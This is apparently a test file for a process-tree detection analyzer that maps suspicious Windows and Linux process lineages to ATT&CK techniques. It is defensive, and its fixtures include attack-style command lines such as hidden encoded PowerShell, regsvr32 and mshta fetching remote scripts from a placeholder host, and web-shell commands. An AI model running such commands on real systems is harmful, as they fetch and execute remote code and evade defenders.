// Process trees crafted after the lineages ATT&CK and SigmaHQ process_creation rules describe.
import { Finding } from '../../src/domain/finding';
import { Process } from '../../src/domain/alert';
import { ANALYZER_VERSION, analyzeProcessTree, imageName, type AlertProcess } from '../../src/analyzers/process-tree';
import { countTextWork } from '../helpers/work';

const SYS = 'C:\\Windows\\System32';
const OFFICE = 'C:\\Program Files\\Microsoft Office\\root\\Office16';
const explorer = { name: 'explorer.exe', path: 'C:\\Windows\\explorer.exe' };
const idsOf = (p: AlertProcess[]) => analyzeProcessTree(p).summary.replace(/^.*: /, '').split(', ');

describe('suspicious parent → child pairs', () => {
  const cases: [string, AlertProcess, string, string[]][] = [
    [
      'Word starts PowerShell',
      {
        name: 'powershell.exe',
        path: `${SYS}\\WindowsPowerShell\\v1.0\\powershell.exe`,
        commandLine: 'powershell -nop -w hidden -enc SQBFAFgA',
        parents: [{ name: 'WINWORD.EXE', path: `${OFFICE}\\WINWORD.EXE` }, explorer],
      },
      'office-child',
      ['T1204.002', 'T1059.001'],
    ],
    [
      'Excel starts cmd',
      { name: 'cmd.exe', commandLine: 'cmd /c start %TEMP%\\a.exe', parents: [{ name: 'EXCEL.EXE' }] },
      'office-child',
      ['T1204.002', 'T1059.003'],
    ],
    [
      'OneNote starts wscript',
      {
        name: 'wscript.exe',
        commandLine: 'wscript C:\\Users\\bob\\AppData\\Local\\Temp\\OneNote\\a.vbs',
        parents: [{ name: 'ONENOTE.EXE' }],
      },
      'office-child',
      ['T1059.005'],
    ],
    ['Outlook starts mshta', { name: 'mshta.exe', parents: [{ name: 'OUTLOOK.EXE' }] }, 'office-child', ['T1218.005']],
    [
      'PowerPoint starts regsvr32',
      { name: 'regsvr32.exe', commandLine: 'regsvr32 /s /i:http://x.example/a.sct scrobj.dll', parents: [{ name: 'POWERPNT.EXE' }] },
      'office-child',
      ['T1218.010'],
    ],
    ['Excel starts rundll32', { name: 'rundll32.exe', parents: [{ name: 'excel.exe' }] }, 'office-child', ['T1218.011']],
    [
      'Chrome starts wscript (downloaded .js opened)',
      { name: 'wscript.exe', commandLine: 'wscript.exe "C:\\Users\\bob\\Downloads\\invoice.js"', parents: [{ name: 'chrome.exe' }] },
      'browser-child',
      ['T1059.005'],
    ],
    ['Edge starts PowerShell', { name: 'powershell.exe', parents: [{ name: 'msedge.exe' }] }, 'browser-child', ['T1059.001']],
    [
      'WMI starts PowerShell',
      { name: 'powershell.exe', parents: [{ name: 'WmiPrvSE.exe', path: `${SYS}\\wbem\\WmiPrvSE.exe` }] },
      'wmi-child',
      ['T1047', 'T1059.001'],
    ],
    [
      'services.exe starts cmd (PsExec-style)',
      {
        name: 'cmd.exe',
        commandLine: 'cmd.exe /c echo x > \\\\.\\pipe\\x',
        parents: [{ name: 'services.exe', path: `${SYS}\\services.exe` }],
      },
      'services-shell',
      ['T1569.002'],
    ],
    [
      'svchost starts cmd',
      { name: 'cmd.exe', parents: [{ name: 'svchost.exe', path: `${SYS}\\svchost.exe` }] },
      'svchost-shell',
      ['T1059.003'],
    ],
    [
      'Explorer starts mshta with a URL',
      { name: 'mshta.exe', commandLine: 'mshta.exe https://x.example/a.hta', parents: [explorer] },
      'explorer-mshta-url',
      ['T1218.005'],
    ],
    [
      'IIS worker starts cmd (web shell)',
      { name: 'cmd.exe', commandLine: 'cmd /c whoami', parents: [{ name: 'w3wp.exe' }] },
      'webserver-shell',
      ['T1505.003', 'T1059.003'],
    ],
    [
      'nginx starts whoami',
      { name: 'whoami', path: '/usr/bin/whoami', parents: [{ name: 'nginx', path: '/usr/sbin/nginx' }] },
      'webserver-shell',
      ['T1505.003', 'T1033'],
    ],
    [
      'wscript starts PowerShell',
      { name: 'powershell.exe', parents: [{ name: 'wscript.exe' }, explorer] },
      'script-host-shell',
      ['T1059.005', 'T1059.001'],
    ],
    ['Acrobat Reader starts cmd', { name: 'cmd.exe', parents: [{ name: 'AcroRd32.exe' }] }, 'reader-child', ['T1204.002']],
  ];
  it.each(cases)('%s', (_title, proc, id, attack) => {
    expect(Process.parse(proc)).toBeDefined(); // the same shape alerts carry
    const f = analyzeProcessTree([proc]);
    expect(Finding.parse(f)).toEqual(f);
    expect(f.analyzer).toBe('process-tree');
    expect(idsOf([proc])).toContain(id);
    expect(f.attack).toEqual(expect.arrayContaining(attack));
    expect(f.verdict).not.toBe('benign');
  });

  it('checks every link of the chain, not only the alert process and its parent', () => {
    // explorer → winword → cmd → powershell: the Office link is one level up.
    const f = analyzeProcessTree([{ name: 'powershell.exe', parents: [{ name: 'cmd.exe' }, { name: 'WINWORD.EXE' }, explorer] }]);
    expect(f.evidence[0]).toBe('Office application started a shell, script host or LOLBin (winword.exe → cmd.exe)');
    expect(f.evidence.at(-1)).toBe('tree: C:\\Windows\\explorer.exe → WINWORD.EXE → cmd.exe → powershell.exe');
  });

  it('lets ordinary lineages through', () => {
    const ordinary: AlertProcess[] = [
      { name: 'WINWORD.EXE', path: `${OFFICE}\\WINWORD.EXE`, parents: [explorer] },
      { name: 'chrome.exe', path: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', parents: [explorer] },
      {
        name: 'svchost.exe',
        path: `${SYS}\\svchost.exe`,
        commandLine: 'svchost.exe -k netsvcs -p',
        parents: [
          { name: 'services.exe', path: `${SYS}\\services.exe` },
          { name: 'wininit.exe', path: `${SYS}\\wininit.exe` },
        ],
      },
      { path: '\\Device\\HarddiskVolume3\\Windows\\System32\\svchost.exe', parents: [{ name: 'MsMpEng.exe' }] },
      { name: 'powershell.exe', path: `${SYS}\\WindowsPowerShell\\v1.0\\powershell.exe`, parents: [explorer] },
      { name: 'mshta.exe', commandLine: 'mshta.exe C:\\Program Files\\Vendor\\help.hta', parents: [explorer] },
      { name: 'Teams.exe', path: 'C:\\Users\\bob\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe', parents: [explorer] },
      { name: 'Code.exe', path: 'C:\\Users\\bob\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe', parents: [explorer] },
      { name: 'taskhost.exe', path: `${SYS}\\taskhost.exe` },
      { name: 'bash', path: '/usr/bin/bash', parents: [{ name: 'sshd', path: '/usr/sbin/sshd' }] },
    ];
    const f = analyzeProcessTree(ordinary);
    expect(f).toEqual(expect.objectContaining({ verdict: 'benign', score: 0 }));
    expect(f.summary).toMatch(/no suspicious lineage/);
  });
});

describe('image paths and names', () => {
  it('flags programs run from user-writable folders', () => {
    const where: [string, string][] = [
      ['C:\\Users\\bob\\AppData\\Local\\Temp\\7zS1A2B\\setup.exe', 'a Temp folder'],
      ['C:\\Windows\\Temp\\x.exe', 'a Temp folder'],
      ['C:\\Users\\bob\\Downloads\\invoice.pdf.exe', "the user's Downloads folder"],
      ['C:\\Users\\Public\\Libraries\\run.exe', 'C:\\Users\\Public'],
      ['C:\\ProgramData\\updater\\up.exe', 'C:\\ProgramData'],
      ['C:\\Users\\bob\\AppData\\Roaming\\Helper\\helper.exe', "the user's AppData folder"],
      ['/tmp/.x/kworker', 'a world-writable Unix folder (/tmp, /var/tmp, /dev/shm)'],
      ['/dev/shm/payload', 'a world-writable Unix folder (/tmp, /var/tmp, /dev/shm)'],
      ['/var/tmp/miner', 'a world-writable Unix folder (/tmp, /var/tmp, /dev/shm)'],
    ];
    for (const [path, what] of where) {
      const f = analyzeProcessTree([{ path }]);
      expect(f.evidence[0]).toBe(`runs from ${what}: ${path}`);
      expect(f.attack).toContain('T1204.002');
    }
    // Taken from the command line when the path is missing.
    expect(analyzeProcessTree([{ commandLine: '"C:\\Users\\bob\\Downloads\\a b.exe" /silent' }]).evidence[0]).toBe(
      "runs from the user's Downloads folder: C:\\Users\\bob\\Downloads\\a b.exe",
    );
  });

  it('flags system binaries outside System32 and lookalike names (T1036.005)', () => {
    const fake = analyzeProcessTree([{ name: 'svchost.exe', path: 'C:\\Users\\bob\\AppData\\Roaming\\svchost.exe', parents: [explorer] }]);
    expect(fake.verdict).toBe('malicious');
    expect(fake.evidence).toEqual(
      expect.arrayContaining([
        'svchost.exe runs outside the Windows system folders: C:\\Users\\bob\\AppData\\Roaming\\svchost.exe',
        'svchost.exe started by explorer instead of services.exe (masquerade or injection host)',
      ]),
    );
    expect(fake.attack).toContain('T1036.005');
    expect(idsOf([{ name: 'lsass.exe', path: 'C:\\Windows\\lsass.exe' }])).toContain('system-binary-wrong-path');
    expect(idsOf([{ name: 'explorer.exe', path: 'C:\\Windows\\Temp\\explorer.exe' }])).toContain('system-binary-wrong-path');
    for (const name of ['scvhost.exe', 'svch0st.exe', 'lsasss.exe', 'expl0rer.exe', 'rundl32.exe']) {
      expect({ name, ids: idsOf([{ name }]) }).toEqual({ name, ids: expect.arrayContaining(['lookalike-name']) });
    }
  });

  it('names images from name, path or command line', () => {
    expect(imageName({ name: 'WINWORD.EXE' })).toBe('winword');
    expect(imageName({ path: 'C:\\x\\PowerShell.exe' })).toBe('powershell');
    expect(imageName({ commandLine: '"C:\\Program Files\\a\\b.exe" -x' })).toBe('b');
    expect(imageName({ path: '/usr/bin/bash' })).toBe('bash');
    expect(imageName({})).toBe('');
  });
});

describe('analyzeProcessTree: edges', () => {
  it('is unknown without processes and reports a broken input as an error', () => {
    expect(analyzeProcessTree([])).toEqual(expect.objectContaining({ verdict: 'unknown', score: 0 }));
    expect(analyzeProcessTree(null as unknown as AlertProcess[]).error).toBeDefined();
    expect(ANALYZER_VERSION).toMatch(/^\d+$/);
  });

  it('bounds its work on the largest alert the schema allows and beyond', async () => {
    const parents = Array.from({ length: 500 }, () => ({ name: 'WINWORD.EXE' }));
    const procs = Array.from({ length: 1000 }, () => ({ name: 'cmd.exe', commandLine: 'x'.repeat(30_000), parents }));
    const { value: f, work } = await countTextWork(() => analyzeProcessTree(procs));
    // Only the first 100 processes are examined, each command line a few passes over its text.
    expect(work.execs).toBeLessThan(500 * 100);
    expect(work.charsScanned + work.indexOfChars).toBeLessThan(4 * 30_000 * 100);
    expect(f.verdict).toBe('malicious');
    expect(f.evidence.length).toBeLessThanOrEqual(30);
  });
});
